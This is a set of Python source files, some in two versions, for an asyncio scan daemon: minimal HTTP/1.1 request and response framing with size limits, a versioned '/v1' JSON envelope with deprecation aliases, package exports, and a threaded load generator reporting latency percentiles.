                replica_set = self.replicas(f"{other}#probe-{i}", n)
                if member in replica_set:
                    out.update(replica_set)
        out.discard(member)
        return out
