"""Minimal HTTP/1.1 framing over asyncio streams.

The daemon serves a handful of JSON endpoints to trusted infrastructure
(load balancers, batch submitters, Prometheus scrapers), so it needs
request parsing and response rendering — not a framework.  This module
implements exactly that slice of RFC 9112:

* request line + headers + ``Content-Length`` bodies (no chunked encoding
  — every client we ship sends sized bodies),
* hard limits on header block and body size (oversized input is a
  protocol error, not an allocation),
* keep-alive by default (HTTP/1.1 semantics), ``Connection: close``
  honored in both directions,
* JSON helpers that render consistent ``{"error": {...}}`` objects for
  every failure status.

Anything malformed raises :class:`ProtocolError`, which carries the HTTP
status the connection handler should answer with before closing.
"""

from __future__ import annotations

import asyncio
import json
from dataclasses import dataclass, field

#: Generous bound for the request line + all headers.
MAX_HEADER_BYTES = 32 * 1024

#: Default body cap; scripts arrive inline in JSON bodies, and 16 MiB
#: clears any real-world script (the paper's corpus averages 62 KB) with a
#: wide margin.  Deployments shrink it per-daemon via ``--max-body-bytes``;
#: an oversized body is refused with **413** before a single body byte is
#: read, so a hostile client cannot make the daemon buffer it.
MAX_BODY_BYTES = 16 * 1024 * 1024

REASON_PHRASES = {
    200: "OK",
    400: "Bad Request",
    404: "Not Found",
    405: "Method Not Allowed",
    408: "Request Timeout",
    413: "Content Too Large",
    429: "Too Many Requests",
    500: "Internal Server Error",
    502: "Bad Gateway",
    503: "Service Unavailable",
}


class ProtocolError(Exception):
    """Malformed or over-limit request; ``status`` is the HTTP answer.

    ``path`` is the request target when the request line was parsed
    before the failure (e.g. an oversized body) — the connection loop
    uses it to answer on the API surface the client asked for.
    """

    def __init__(self, status: int, message: str, path: str | None = None):
        super().__init__(message)
        self.status = status
        self.message = message
        self.path = path


@dataclass
class Request:
    """One parsed HTTP request."""

    method: str
    path: str
    headers: dict[str, str] = field(default_factory=dict)  # keys lower-cased
    body: bytes = b""
    #: Decoded query-string parameters (last value wins on duplicates).
    query: dict[str, str] = field(default_factory=dict)
    #: API surface the request arrived on: ``"v1"`` (the ``/v1`` prefix)
    #: or ``"legacy"`` (unprefixed deprecation aliases).  Set by the
    #: server's router after parsing; response rendering branches on it.
    api: str = "legacy"
    #: Trace id of this request's *recorded* root span, set by the handler
    #: that opened it.  The connection loop reads it after routing so the
    #: request's latency observation carries an exemplar pointing at a
    #: trace that actually exists in the store.
    trace_id_hint: str | None = None

    @property
    def keep_alive(self) -> bool:
        return self.headers.get("connection", "").lower() != "close"

    @property
    def traceparent(self) -> str | None:
        """The raw W3C ``traceparent`` header, if the caller sent one."""
        return self.headers.get("traceparent")

    def json(self):
        """Parse the body as JSON; :class:`ProtocolError` 400 on failure."""
        try:
            return json.loads(self.body.decode("utf-8"))
        except (UnicodeDecodeError, json.JSONDecodeError) as error:
            raise ProtocolError(400, f"request body is not valid JSON: {error}") from error


async def read_request(
    reader: asyncio.StreamReader, max_body_bytes: int = MAX_BODY_BYTES
) -> Request | None:
    """Parse one request off the stream; ``None`` on clean EOF.

    Raises :class:`ProtocolError` for malformed input (including a
    ``Content-Length`` above ``max_body_bytes`` → 413) and
    ``asyncio.IncompleteReadError``/``ConnectionError`` for mid-request
    disconnects (callers treat those as the peer going away).
    """
    try:
        header_block = await reader.readuntil(b"\r\n\r\n")
    except asyncio.IncompleteReadError as error:
        if not error.partial:
            return None  # clean EOF between requests
        raise ProtocolError(400, "connection closed mid-headers") from error
    except asyncio.LimitOverrunError as error:
        raise ProtocolError(400, "header block exceeds limit") from error
    if len(header_block) > MAX_HEADER_BYTES:
        raise ProtocolError(400, "header block exceeds limit")

    try:
        head = header_block.decode("latin-1")
    except UnicodeDecodeError as error:  # pragma: no cover - latin-1 total
        raise ProtocolError(400, "undecodable header block") from error
    lines = head.split("\r\n")
    parts = lines[0].split(" ")
    if len(parts) != 3 or not parts[2].startswith("HTTP/1."):
        raise ProtocolError(400, f"malformed request line: {lines[0]!r}")
    method, target, _version = parts
    request_path = target.partition("?")[0]

    headers: dict[str, str] = {}
    for line in lines[1:]:
        if not line:
            continue
        name, sep, value = line.partition(":")
        if not sep or not name.strip():
            raise ProtocolError(400, f"malformed header line: {line!r}", path=request_path)
        headers[name.strip().lower()] = value.strip()

    body = b""
    if "content-length" in headers:
        try:
            length = int(headers["content-length"])
        except ValueError as error:
            raise ProtocolError(400, "malformed Content-Length", path=request_path) from error
        if length < 0:
            raise ProtocolError(400, "negative Content-Length", path=request_path)
        if length > max_body_bytes:
            raise ProtocolError(
                413, f"body exceeds {max_body_bytes} bytes", path=request_path
            )
        body = await reader.readexactly(length)
    elif headers.get("transfer-encoding"):
        raise ProtocolError(400, "chunked transfer encoding is not supported", path=request_path)

    # The routing table is path-only; query parameters are decoded for
    # handlers that take options (e.g. ``/debug/traces?n=5``).
    path, _, query_string = target.partition("?")
    query: dict[str, str] = {}
    if query_string:
        from urllib.parse import parse_qsl

        query = dict(parse_qsl(query_string, keep_blank_values=True))
    return Request(method=method, path=path, headers=headers, body=body, query=query)


@dataclass
class Response:
    """One parsed HTTP response (the client side of the framing)."""

    status: int
    headers: dict[str, str] = field(default_factory=dict)  # keys lower-cased
    body: bytes = b""


async def read_response(reader: asyncio.StreamReader, max_body_bytes: int = MAX_BODY_BYTES) -> Response:
    """Parse one response off the stream (sized bodies only, like requests)."""
    try:
        header_block = await reader.readuntil(b"\r\n\r\n")
    except asyncio.IncompleteReadError as error:
        raise ConnectionError("connection closed mid-response") from error
    except asyncio.LimitOverrunError as error:
        raise ProtocolError(502, "response header block exceeds limit") from error
    lines = header_block.decode("latin-1").split("\r\n")
    parts = lines[0].split(" ", 2)
    if len(parts) < 2 or not parts[0].startswith("HTTP/1."):
        raise ProtocolError(502, f"malformed status line: {lines[0]!r}")
    try:
        status = int(parts[1])
    except ValueError as error:
        raise ProtocolError(502, f"malformed status code: {lines[0]!r}") from error
    headers: dict[str, str] = {}
    for line in lines[1:]:
        if not line:
            continue
        name, sep, value = line.partition(":")
        if sep:
            headers[name.strip().lower()] = value.strip()
    body = b""
    if "content-length" in headers:
        try:
            length = int(headers["content-length"])
        except ValueError as error:
            raise ProtocolError(502, "malformed Content-Length in response") from error
        if length < 0 or length > max_body_bytes:
            raise ProtocolError(502, f"response body out of bounds ({length} bytes)")
        body = await reader.readexactly(length)
    return Response(status=status, headers=headers, body=body)


def render_request(
    method: str,
    path: str,
    host: str,
    body: bytes | None = None,
    headers: dict[str, str] | None = None,
) -> bytes:
    """Serialize one HTTP/1.1 request (``Connection: close`` framing)."""
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}", "Connection: close"]
    if body is not None:
        lines.append("Content-Type: application/json")
        lines.append(f"Content-Length: {len(body)}")
    for name, value in (headers or {}).items():
        lines.append(f"{name}: {value}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + (body or b"")


async def fetch(
    host: str,
    port: int,
    method: str,
    path: str,
    body: bytes | None = None,
    headers: dict[str, str] | None = None,
    timeout_s: float = 10.0,
) -> Response:
    """One request/response round trip on a fresh connection.

    The router and the shard supervisor speak HTTP to shards through this
    helper.  Connections are per-request (``Connection: close``) — scan
    cost dominates a loopback connect by orders of magnitude, and a dead
    shard then fails the *connect*, which is the cheapest possible way to
    find out.  Raises ``OSError``/``ConnectionError`` on transport
    failure and :class:`ProtocolError` on an unparseable response; the
    caller classifies (see :func:`repro.faults.classify_shard_fault`).
    """

    async def round_trip() -> Response:
        reader, writer = await asyncio.open_connection(host, port)
        try:
            writer.write(render_request(method, path, f"{host}:{port}", body=body, headers=headers))
            await writer.drain()
            return await read_response(reader)
        finally:
            writer.close()
            try:
                await writer.wait_closed()
            except (ConnectionError, OSError):
                pass

    return await asyncio.wait_for(round_trip(), timeout_s)


def render_response(
    status: int,
    body: bytes,
    content_type: str = "application/json",
    extra_headers: dict[str, str] | None = None,
    keep_alive: bool = True,
) -> bytes:
    """Serialize one HTTP/1.1 response (with sized body) to bytes."""
    reason = REASON_PHRASES.get(status, "Unknown")
    lines = [
        f"HTTP/1.1 {status} {reason}",
        f"Content-Type: {content_type}",
        f"Content-Length: {len(body)}",
        f"Connection: {'keep-alive' if keep_alive else 'close'}",
    ]
    for name, value in (extra_headers or {}).items():
        lines.append(f"{name}: {value}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body


def json_response(
    status: int,
    payload,
    extra_headers: dict[str, str] | None = None,
    keep_alive: bool = True,
) -> bytes:
    body = json.dumps(payload).encode("utf-8")
    return render_response(status, body, extra_headers=extra_headers, keep_alive=keep_alive)


def error_response(
    status: int,
    message: str,
    extra_headers: dict[str, str] | None = None,
    keep_alive: bool = True,
) -> bytes:
    """The uniform JSON error object every failure path returns."""
    payload = {
        "error": {
            "status": status,
            "reason": REASON_PHRASES.get(status, "Unknown"),
            "message": message,
        }
    }
    return json_response(status, payload, extra_headers=extra_headers, keep_alive=keep_alive)


def trace_list_query(request: Request) -> dict:
    """Parse the ``/debug/traces`` list filters shared by shard and router.

    ``n`` caps the listing, ``slow_ms`` keeps traces at least that slow,
    ``status`` keeps only ``ok`` or ``error`` roots — the operator's jump
    from an SLO page state to the offending traces.
    """
    try:
        n = int(request.query.get("n", "20"))
    except ValueError as error:
        raise ProtocolError(400, '"n" must be an integer') from error
    slow_ms: float | None = None
    if "slow_ms" in request.query:
        try:
            slow_ms = float(request.query["slow_ms"])
        except ValueError as error:
            raise ProtocolError(400, '"slow_ms" must be a number') from error
    status = request.query.get("status")
    if status is not None and status not in ("ok", "error"):
        raise ProtocolError(400, '"status" must be "ok" or "error"')
    return {"n": n, "slow_ms": slow_ms, "status": status}
