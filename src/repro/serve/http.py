"""Minimal HTTP/1.1 framing over asyncio streams.

The daemon serves a handful of JSON endpoints to trusted infrastructure
(load balancers, batch submitters, Prometheus scrapers), so it needs
request parsing and response rendering — not a framework.  This module
implements exactly that slice of RFC 9112:

* request line + headers + ``Content-Length`` bodies (no chunked encoding
  — every client we ship sends sized bodies),
* hard limits on header block and body size (oversized input is a
  protocol error, not an allocation),
* keep-alive by default (HTTP/1.1 semantics), ``Connection: close``
  honored in both directions,
* JSON helpers that render consistent ``{"error": {...}}`` objects for
  every failure status.

Anything malformed raises :class:`ProtocolError`, which carries the HTTP
status the connection handler should answer with before closing.
"""

from __future__ import annotations

import asyncio
import json
from dataclasses import dataclass, field

#: Generous bound for the request line + all headers.
MAX_HEADER_BYTES = 32 * 1024

#: Default body cap; scripts arrive inline in JSON bodies, and 16 MiB
#: clears any real-world script (the paper's corpus averages 62 KB) with a
#: wide margin.  Deployments shrink it per-daemon via ``--max-body-bytes``;
#: an oversized body is refused with **413** before a single body byte is
#: read, so a hostile client cannot make the daemon buffer it.
MAX_BODY_BYTES = 16 * 1024 * 1024

REASON_PHRASES = {
    200: "OK",
    400: "Bad Request",
    404: "Not Found",
    405: "Method Not Allowed",
    408: "Request Timeout",
    413: "Content Too Large",
    429: "Too Many Requests",
    500: "Internal Server Error",
    503: "Service Unavailable",
}


class ProtocolError(Exception):
    """Malformed or over-limit request; ``status`` is the HTTP answer."""

    def __init__(self, status: int, message: str):
        super().__init__(message)
        self.status = status
        self.message = message


@dataclass
class Request:
    """One parsed HTTP request."""

    method: str
    path: str
    headers: dict[str, str] = field(default_factory=dict)  # keys lower-cased
    body: bytes = b""
    #: Decoded query-string parameters (last value wins on duplicates).
    query: dict[str, str] = field(default_factory=dict)

    @property
    def keep_alive(self) -> bool:
        return self.headers.get("connection", "").lower() != "close"

    @property
    def traceparent(self) -> str | None:
        """The raw W3C ``traceparent`` header, if the caller sent one."""
        return self.headers.get("traceparent")

    def json(self):
        """Parse the body as JSON; :class:`ProtocolError` 400 on failure."""
        try:
            return json.loads(self.body.decode("utf-8"))
        except (UnicodeDecodeError, json.JSONDecodeError) as error:
            raise ProtocolError(400, f"request body is not valid JSON: {error}") from error


async def read_request(
    reader: asyncio.StreamReader, max_body_bytes: int = MAX_BODY_BYTES
) -> Request | None:
    """Parse one request off the stream; ``None`` on clean EOF.

    Raises :class:`ProtocolError` for malformed input (including a
    ``Content-Length`` above ``max_body_bytes`` → 413) and
    ``asyncio.IncompleteReadError``/``ConnectionError`` for mid-request
    disconnects (callers treat those as the peer going away).
    """
    try:
        header_block = await reader.readuntil(b"\r\n\r\n")
    except asyncio.IncompleteReadError as error:
        if not error.partial:
            return None  # clean EOF between requests
        raise ProtocolError(400, "connection closed mid-headers") from error
    except asyncio.LimitOverrunError as error:
        raise ProtocolError(400, "header block exceeds limit") from error
    if len(header_block) > MAX_HEADER_BYTES:
        raise ProtocolError(400, "header block exceeds limit")

    try:
        head = header_block.decode("latin-1")
    except UnicodeDecodeError as error:  # pragma: no cover - latin-1 total
        raise ProtocolError(400, "undecodable header block") from error
    lines = head.split("\r\n")
    parts = lines[0].split(" ")
    if len(parts) != 3 or not parts[2].startswith("HTTP/1."):
        raise ProtocolError(400, f"malformed request line: {lines[0]!r}")
    method, target, _version = parts

    headers: dict[str, str] = {}
    for line in lines[1:]:
        if not line:
            continue
        name, sep, value = line.partition(":")
        if not sep or not name.strip():
            raise ProtocolError(400, f"malformed header line: {line!r}")
        headers[name.strip().lower()] = value.strip()

    body = b""
    if "content-length" in headers:
        try:
            length = int(headers["content-length"])
        except ValueError as error:
            raise ProtocolError(400, "malformed Content-Length") from error
        if length < 0:
            raise ProtocolError(400, "negative Content-Length")
        if length > max_body_bytes:
            raise ProtocolError(413, f"body exceeds {max_body_bytes} bytes")
        body = await reader.readexactly(length)
    elif headers.get("transfer-encoding"):
        raise ProtocolError(400, "chunked transfer encoding is not supported")

    # The routing table is path-only; query parameters are decoded for
    # handlers that take options (e.g. ``/debug/traces?n=5``).
    path, _, query_string = target.partition("?")
    query: dict[str, str] = {}
    if query_string:
        from urllib.parse import parse_qsl

        query = dict(parse_qsl(query_string, keep_blank_values=True))
    return Request(method=method, path=path, headers=headers, body=body, query=query)


def render_response(
    status: int,
    body: bytes,
    content_type: str = "application/json",
    extra_headers: dict[str, str] | None = None,
    keep_alive: bool = True,
) -> bytes:
    """Serialize one HTTP/1.1 response (with sized body) to bytes."""
    reason = REASON_PHRASES.get(status, "Unknown")
    lines = [
        f"HTTP/1.1 {status} {reason}",
        f"Content-Type: {content_type}",
        f"Content-Length: {len(body)}",
        f"Connection: {'keep-alive' if keep_alive else 'close'}",
    ]
    for name, value in (extra_headers or {}).items():
        lines.append(f"{name}: {value}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body


def json_response(
    status: int,
    payload,
    extra_headers: dict[str, str] | None = None,
    keep_alive: bool = True,
) -> bytes:
    body = json.dumps(payload).encode("utf-8")
    return render_response(status, body, extra_headers=extra_headers, keep_alive=keep_alive)


def error_response(
    status: int,
    message: str,
    extra_headers: dict[str, str] | None = None,
    keep_alive: bool = True,
) -> bytes:
    """The uniform JSON error object every failure path returns."""
    payload = {
        "error": {
            "status": status,
            "reason": REASON_PHRASES.get(status, "Unknown"),
            "message": message,
        }
    }
    return json_response(status, payload, extra_headers=extra_headers, keep_alive=keep_alive)
