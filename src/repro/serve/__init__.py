"""Serving layer: asyncio scan daemon, micro-batching, and the sharded tier.

Public surface::

    from repro.serve import ScanServer, ServeConfig, run_server, BackgroundServer

    # blocking daemon (the `repro serve` CLI command):
    run_server(load_detector("model"), ServeConfig(port=8077, max_batch=8))

    # embedded (tests / benches / notebooks):
    with BackgroundServer(detector, ServeConfig(port=0)) as server:
        ...POST to server.url...

    # the sharded tier (the `repro cluster` CLI command):
    from repro.serve import ClusterConfig, run_cluster, BackgroundCluster
    run_cluster(ClusterConfig(model_dir="model", n_shards=4))

Every endpoint is mounted under ``/v1`` with one response envelope (see
:mod:`repro.serve.api` and API.md); the unprefixed v0 paths remain as
deprecation aliases.  See :mod:`repro.serve.app` for endpoint and
backpressure semantics, :mod:`repro.serve.batching` for the
micro-batching queue, :mod:`repro.serve.router` /
:mod:`repro.serve.supervisor` / :mod:`repro.serve.cluster` for the
sharded tier, and :mod:`repro.serve.loadgen` for the stdlib load
generator.
"""

from .api import API_VERSION, V1_PREFIX, EnvelopeError, parse_envelope
from .app import BackgroundServer, ScanServer, ServeConfig, run_server
from .autoscale import HOLD, SCALE_DOWN, SCALE_UP, AutoscaleConfig, Autoscaler
from .batching import Draining, MicroBatcher, QueueFull
from .cluster import BackgroundCluster, ClusterConfig, ClusterController, run_cluster
from .hashring import HashRing
from .loadgen import LoadReport, LoadResult, run_load
from .router import RouterConfig, ScanRouter
from .supervisor import ShardSpec, ShardSupervisor
from .vcache import VerdictCache

__all__ = [
    "API_VERSION",
    "AutoscaleConfig",
    "Autoscaler",
    "BackgroundCluster",
    "BackgroundServer",
    "ClusterConfig",
    "ClusterController",
    "Draining",
    "EnvelopeError",
    "HOLD",
    "HashRing",
    "LoadReport",
    "LoadResult",
    "MicroBatcher",
    "QueueFull",
    "RouterConfig",
    "SCALE_DOWN",
    "SCALE_UP",
    "ScanRouter",
    "ScanServer",
    "ServeConfig",
    "ShardSpec",
    "ShardSupervisor",
    "V1_PREFIX",
    "VerdictCache",
    "parse_envelope",
    "run_cluster",
    "run_load",
    "run_server",
]
