"""Serving layer: asyncio scan daemon with micro-batching + backpressure.

Public surface::

    from repro.serve import ScanServer, ServeConfig, run_server, BackgroundServer

    # blocking daemon (the `repro serve` CLI command):
    run_server(load_detector("model"), ServeConfig(port=8077, max_batch=8))

    # embedded (tests / benches / notebooks):
    with BackgroundServer(detector, ServeConfig(port=0)) as server:
        ...POST to server.url...

See :mod:`repro.serve.app` for endpoint and backpressure semantics,
:mod:`repro.serve.batching` for the micro-batching queue, and
:mod:`repro.serve.loadgen` for the stdlib load generator.
"""

from .app import BackgroundServer, ScanServer, ServeConfig, run_server
from .batching import Draining, MicroBatcher, QueueFull
from .loadgen import LoadReport, LoadResult, run_load

__all__ = [
    "BackgroundServer",
    "Draining",
    "LoadReport",
    "LoadResult",
    "MicroBatcher",
    "QueueFull",
    "ScanServer",
    "ServeConfig",
    "run_server",
    "run_load",
]
