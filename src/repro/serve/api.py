"""Versioned API surface shared by the shard daemon and the cluster router.

Every JSON endpoint is mounted under the ``/v1`` prefix and answers with
one envelope, success and failure alike::

    {"api_version": "v1", "trace_id": "…" | null, "data": {…}}
    {"api_version": "v1", "trace_id": "…" | null,
     "error": {"code": "rate_limited", "message": "…", "detail": {…} | null}}

``error.code`` is a stable machine-readable string (the HTTP status is
transport, the code is contract): clients branch on ``code``, humans read
``message``, and ``detail`` carries structured context (retry hints,
breaker state) when there is any.  The one deliberate exception is
``GET /v1/metrics``: Prometheus exposition is a text format scraped by
Prometheus itself, so it is served unwrapped on both prefixes.

The unprefixed paths from the v0 daemon (``/scan``, ``/healthz``, …)
remain as deprecation aliases: same handler, byte-identical legacy body,
plus a ``Deprecation: true`` header, a ``Link: </v1/…>;
rel="successor-version"`` pointer, and a
``repro_http_deprecated_requests_total`` counter so operators can watch
the old surface drain before it is removed.  See API.md for the full
reference and the deprecation policy.
"""

from __future__ import annotations

import json

from .http import REASON_PHRASES, ProtocolError, error_response, render_response

#: The one supported versioned prefix.  Bump by *adding* a prefix — v1
#: aliases would then get the same deprecation treatment legacy has now.
API_VERSION = "v1"
V1_PREFIX = "/v1"

#: Stable machine-readable error codes by HTTP status — the part of a
#: failure clients are allowed to branch on.
ERROR_CODES = {
    400: "bad_request",
    404: "not_found",
    405: "method_not_allowed",
    408: "request_timeout",
    413: "payload_too_large",
    429: "rate_limited",
    500: "internal",
    503: "unavailable",
}

#: Legacy (unprefixed) request paths kept as deprecation aliases.  Any
#: other unprefixed path is simply a 404, not a deprecated alias.
LEGACY_ALIASES = ("/scan", "/scan/batch", "/analyze", "/healthz", "/version", "/metrics", "/debug/traces")


def split_api_path(path: str) -> tuple[str, str]:
    """``/v1/scan`` → ``("v1", "/scan")``; ``/scan`` → ``("legacy", "/scan")``."""
    if path == V1_PREFIX or path.startswith(V1_PREFIX + "/"):
        logical = path[len(V1_PREFIX) :] or "/"
        return API_VERSION, logical
    return "legacy", path


def is_legacy_alias(logical_path: str) -> bool:
    """Is this unprefixed path one of the deprecated v0 endpoints?"""
    return any(
        logical_path == alias or logical_path.startswith(alias + "/") for alias in LEGACY_ALIASES
    )


def deprecation_headers(logical_path: str) -> dict[str, str]:
    """Headers advertising the successor of a legacy alias."""
    return {
        "Deprecation": "true",
        "Link": f"<{V1_PREFIX}{logical_path}>; rel=\"successor-version\"",
    }


def error_code(status: int) -> str:
    return ERROR_CODES.get(status, "internal" if status >= 500 else "bad_request")


def envelope(data: object = None, error: dict | None = None, trace_id: str | None = None) -> dict:
    """The v1 response envelope; exactly one of ``data``/``error`` is set."""
    out: dict = {"api_version": API_VERSION, "trace_id": trace_id}
    if error is not None:
        out["error"] = error
    else:
        out["data"] = data
    return out


def v1_response(
    status: int,
    data: object,
    trace_id: str | None = None,
    extra_headers: dict[str, str] | None = None,
    keep_alive: bool = True,
) -> bytes:
    body = json.dumps(envelope(data=data, trace_id=trace_id)).encode("utf-8")
    return render_response(status, body, extra_headers=extra_headers, keep_alive=keep_alive)


def v1_error_response(
    status: int,
    message: str,
    trace_id: str | None = None,
    detail: dict | None = None,
    extra_headers: dict[str, str] | None = None,
    keep_alive: bool = True,
) -> bytes:
    error = {
        "code": error_code(status),
        "message": message,
        "detail": detail,
    }
    body = json.dumps(envelope(error=error, trace_id=trace_id)).encode("utf-8")
    return render_response(status, body, extra_headers=extra_headers, keep_alive=keep_alive)


def protocol_error_response(error: ProtocolError) -> bytes:
    """Render a pre-routing :class:`ProtocolError` (e.g. an oversized body,
    refused before it is read) on the surface the request line asked for:
    the v1 envelope under ``/v1``, the legacy error object elsewhere."""
    api, _ = split_api_path(error.path or "")
    if api == API_VERSION:
        return v1_error_response(error.status, error.message, keep_alive=False)
    return error_response(error.status, error.message, keep_alive=False)


def parse_envelope(status: int, body: bytes) -> object:
    """Client-side unwrap: return ``data`` or raise :class:`EnvelopeError`.

    Shared by :class:`repro.client.ScanClient` and the smoke scripts so
    the contract ("every v1 response is an envelope, every non-2xx is an
    error envelope") is asserted in one place.
    """
    try:
        payload = json.loads(body.decode("utf-8"))
    except (UnicodeDecodeError, ValueError) as error:
        raise EnvelopeError(status, "internal", f"response body is not JSON: {error!r}") from error
    if not isinstance(payload, dict) or payload.get("api_version") != API_VERSION:
        raise EnvelopeError(status, "internal", f"response is not a v1 envelope: {payload!r}")
    if status < 400:
        if "data" not in payload:
            raise EnvelopeError(status, "internal", f"success envelope without data: {payload!r}")
        return payload["data"]
    error = payload.get("error")
    if not isinstance(error, dict) or "code" not in error or "message" not in error:
        raise EnvelopeError(status, "internal", f"error envelope malformed: {payload!r}")
    raise EnvelopeError(
        status,
        str(error["code"]),
        str(error["message"]),
        detail=error.get("detail"),
        trace_id=payload.get("trace_id"),
    )


class EnvelopeError(Exception):
    """A v1 error envelope (or a response that failed to be one)."""

    def __init__(
        self,
        status: int,
        code: str,
        message: str,
        detail: dict | None = None,
        trace_id: str | None = None,
    ):
        super().__init__(f"{status} {REASON_PHRASES.get(status, 'Unknown')}: {code}: {message}")
        self.status = status
        self.code = code
        self.message = message
        self.detail = detail
        self.trace_id = trace_id
