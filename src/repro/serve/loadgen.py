"""Stdlib load generator for the scan daemon and the cluster router.

Drives ``POST /v1/scan`` through :class:`repro.client.ScanClient` with N
concurrent worker threads and reports throughput, latency percentiles
(p50/p95/p99), and per-status-code counts.  Used three ways:

* the bench harness's micro-batching and shard-scaling comparisons,
* ad-hoc capacity checks against a running daemon or cluster,
* correctness under concurrency (every response carries its verdict, so
  callers can diff against one-shot scans).

``trace_ratio`` injects a generated W3C ``traceparent`` header (sampled)
into that fraction of requests — the knob for measuring tracing overhead
and for exercising ``/debug/traces`` under load.  ``retries=0`` by
default: backpressure (429/503) is *measured*, not papered over; pass
``retries>0`` to exercise the client's Retry-After behavior instead
(e.g. proving zero failed requests across a shard kill).
"""

from __future__ import annotations

import os
import threading
import time
from collections import Counter
from dataclasses import dataclass, field

from repro.obs.timeseries import percentile

# repro.client is imported inside run_load: the client pulls
# repro.serve.api, whose package __init__ pulls this module — importing
# it at module scope would make `import repro.client` order-dependent.


@dataclass
class LoadResult:
    """One request's outcome."""

    name: str
    status: int
    latency_ms: float
    verdict: str | None = None
    label: int | None = None
    probability: float | None = None
    #: The trace id this request was issued under (``trace_ratio`` hits)
    #: or echoed back via ``X-Trace-Id``; ``None`` for status-0 failures.
    trace_id: str | None = None
    #: True when the request carried an injected ``traceparent``.
    traced: bool = False


@dataclass
class LoadReport:
    """Aggregate of one load-generation run."""

    requests: int
    errors: int
    elapsed_s: float
    concurrency: int
    results: list[LoadResult] = field(repr=False, default_factory=list)

    @property
    def throughput_rps(self) -> float:
        return self.requests / self.elapsed_s if self.elapsed_s > 0 else 0.0

    @property
    def status_counts(self) -> dict[int, int]:
        """Requests per HTTP status code (0 = transport/parse failure)."""
        return dict(Counter(result.status for result in self.results))

    @property
    def traced_requests(self) -> int:
        return sum(1 for result in self.results if result.traced)

    def latency_ms(self, quantile: float) -> float:
        """Latency at ``quantile`` (0–1) over successful requests.

        Shares :func:`repro.obs.timeseries.percentile` with the fleet
        plane — one definition of "p95" across benches and dashboards.
        """
        return percentile([r.latency_ms for r in self.results if r.status == 200], quantile)

    def to_dict(self) -> dict:
        """The report as JSON-able data (``repro loadgen --format json``);
        benches consume this instead of regex-parsing :meth:`summary`."""
        return {
            "requests": self.requests,
            "errors": self.errors,
            "elapsed_s": round(self.elapsed_s, 6),
            "concurrency": self.concurrency,
            "throughput_rps": round(self.throughput_rps, 3),
            "latency_ms": {
                "p50": round(self.latency_ms(0.50), 3),
                "p95": round(self.latency_ms(0.95), 3),
                "p99": round(self.latency_ms(0.99), 3),
            },
            "status_counts": {str(k): v for k, v in sorted(self.status_counts.items())},
            "traced_requests": self.traced_requests,
        }

    def summary(self) -> str:
        by_status = " ".join(
            f"{status}:{count}" for status, count in sorted(self.status_counts.items())
        )
        line = (
            f"{self.requests} requests ({self.errors} errors) in {self.elapsed_s:.2f}s, "
            f"{self.throughput_rps:.1f} req/s @ c={self.concurrency}; latency ms "
            f"p50={self.latency_ms(0.50):.1f} p95={self.latency_ms(0.95):.1f} "
            f"p99={self.latency_ms(0.99):.1f}; status {by_status}"
        )
        if self.traced_requests:
            line += f"; traced {self.traced_requests}"
        return line


def run_load(
    host: str,
    port: int,
    scripts: list[tuple[str, str]],
    concurrency: int = 8,
    repeats: int = 1,
    timeout_s: float = 60.0,
    trace_ratio: float = 0.0,
    retries: int = 0,
) -> LoadReport:
    """POST each ``(name, source)`` ``repeats`` times from worker threads.

    Work items are spread round-robin over ``concurrency`` threads, each
    driving one :class:`~repro.client.ScanClient`.  With ``retries=0``
    (default) 429/503 responses count as errors in the report rather
    than raising, so backpressure behavior is measurable, not fatal;
    with ``retries>0`` the client retries/backoffs through them and only
    exhausted retries count.  ``trace_ratio`` (0–1) of each lane's
    requests carry a generated sampled ``traceparent`` header; the
    issued trace id is recorded on the result.
    """
    from repro.client import ScanAPIError, ScanClient

    if not 0.0 <= trace_ratio <= 1.0:
        raise ValueError("trace_ratio must be within [0, 1]")
    work: list[tuple[str, str]] = [item for _ in range(repeats) for item in scripts]
    lanes: list[list[tuple[str, str]]] = [work[i::concurrency] for i in range(concurrency)]
    collected: list[list[LoadResult]] = [[] for _ in range(concurrency)]
    barrier = threading.Barrier(concurrency + 1)

    def worker(lane: int) -> None:
        client = ScanClient(f"http://{host}:{port}", timeout_s=timeout_s, retries=retries)
        barrier.wait()
        for k, (name, source) in enumerate(lanes[lane]):
            # Deterministic pacing: request k is traced iff the running
            # count of traced requests falls behind the target ratio.
            traced = int((k + 1) * trace_ratio) > int(k * trace_ratio)
            trace_id = None
            traceparent = None
            if traced:
                trace_id = os.urandom(16).hex()
                traceparent = f"00-{trace_id}-{os.urandom(8).hex()}-01"
            started = time.perf_counter()
            try:
                answer = client.scan(source, name=name, traceparent=traceparent)
            except ScanAPIError as error:
                collected[lane].append(
                    LoadResult(name=name, status=error.status,
                               latency_ms=1000.0 * (time.perf_counter() - started),
                               trace_id=trace_id or error.trace_id, traced=traced)
                )
                continue
            collected[lane].append(
                LoadResult(name=name, status=200,
                           latency_ms=1000.0 * (time.perf_counter() - started),
                           verdict=answer.verdict, label=answer.label,
                           probability=answer.probability,
                           trace_id=trace_id or answer.trace_id, traced=traced)
            )

    threads = [threading.Thread(target=worker, args=(lane,), daemon=True) for lane in range(concurrency)]
    for thread in threads:
        thread.start()
    barrier.wait()
    started = time.perf_counter()
    for thread in threads:
        thread.join()
    elapsed = time.perf_counter() - started

    results = [result for lane in collected for result in lane]
    return LoadReport(
        requests=len(results),
        errors=sum(1 for r in results if r.status != 200),
        elapsed_s=elapsed,
        concurrency=concurrency,
        results=results,
    )
