"""Stdlib load generator for the scan daemon.

Drives ``POST /scan`` with N concurrent worker threads (each holding one
keep-alive :class:`http.client.HTTPConnection`) and reports throughput and
latency percentiles.  Used three ways:

* the bench harness's micro-batching-vs-per-request comparison,
* ad-hoc capacity checks against a running daemon,
* correctness under concurrency (every response carries its verdict, so
  callers can diff against one-shot scans).
"""

from __future__ import annotations

import http.client
import json
import threading
import time
from dataclasses import dataclass, field


@dataclass
class LoadResult:
    """One request's outcome."""

    name: str
    status: int
    latency_ms: float
    verdict: str | None = None
    label: int | None = None
    probability: float | None = None


@dataclass
class LoadReport:
    """Aggregate of one load-generation run."""

    requests: int
    errors: int
    elapsed_s: float
    concurrency: int
    results: list[LoadResult] = field(repr=False, default_factory=list)

    @property
    def throughput_rps(self) -> float:
        return self.requests / self.elapsed_s if self.elapsed_s > 0 else 0.0

    def latency_ms(self, quantile: float) -> float:
